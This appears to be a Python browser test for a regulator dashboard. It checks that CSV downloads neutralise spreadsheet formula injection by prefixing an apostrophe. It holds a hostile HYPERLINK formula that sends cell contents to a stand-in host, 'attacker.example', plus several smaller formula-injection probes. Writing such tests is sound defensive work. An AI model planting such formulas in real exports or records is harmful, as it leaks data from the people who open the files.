"""CSV injection in the regulator dashboard's downloads (issue 10, finding 7): an operator names its
own collection point like a spreadsheet formula; the network CSV the page saves, and the CSV the page
builds itself (the national totals), hold such text with a leading apostrophe, numbers unchanged."""

from __future__ import annotations

import csv
from typing import Any

from tests.browser.conftest import DemoSite, console_errors, sign_in

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'
POINT = "CP-110105-9901"


def _register_hostile_point(site: DemoSite) -> None:
    with site.server.client("outlet_operator", site.keys) as client:
        registered = client.post(
            "/api/v1/collection-points",
            json={
                "point_id": POINT,
                "operator_id": site.participants["outlet_operator"],
                "name": HOSTILE,
                "division_code": "110105",
            },
        )
        assert registered.status_code == 201, registered.text
        head = registered.json()["notification_id"]
    with site.server.client("regulator", site.keys) as client:  # the views have it before the page loads
        network = client.get("/api/v1/reports/network", params={"after": head, "region": "11"})
        assert network.status_code == 200, network.text
        assert POINT in {row["id"] for row in network.json()["items"]}


def _saved_rows(page: Any, selector: str) -> list[dict[str, str]]:
    with page.expect_download() as caught:
        page.click(selector)
    with open(caught.value.path(), encoding="utf-8", newline="") as saved:
        return list(csv.DictReader(saved))


def test_the_downloaded_csvs_hold_formulas_as_plain_text(browser: Any, demo_site: DemoSite) -> None:
    _register_hostile_point(demo_site)
    context = browser.new_context(accept_downloads=True, locale="en-GB")
    page = context.new_page()
    errors = console_errors(page)
    try:
        sign_in(page, demo_site, "regulator", "/regulator")
        page.wait_for_selector("#regulator[data-state=ready]")

        network = {row["id"]: row for row in _saved_rows(page, "#rg-network-card .rg-csv")}
        assert network[POINT]["name"] == "'" + HOSTILE
        assert float(network[POINT]["capacity_kg"]) >= 0

        # The page's own CSV builder (used for the totals) applies the same rule.
        with page.expect_download() as caught:
            page.evaluate(
                """() => BT.downloadCsv("probe.csv", ["text", "value"], [
                     { text: '=1+1', value: -3.5 }, { text: '@SUM(A1)', value: '-2' },
                     { text: '\\t=1', value: '+cmd' }, { text: 'plain', value: 0 }])"""
            )
        with open(caught.value.path(), encoding="utf-8", newline="") as saved:
            probe = list(csv.DictReader(saved))
        assert probe == [
            {"text": "'=1+1", "value": "-3.5"},
            {"text": "'@SUM(A1)", "value": "-2"},
            {"text": "'\t=1", "value": "'+cmd"},
            {"text": "plain", "value": "0"},
        ]
        totals = _saved_rows(page, "#rg-totals-card .rg-csv")
        assert totals and all(not row["value"].startswith("'") for row in totals)
        assert errors == []
    finally:
        context.close()
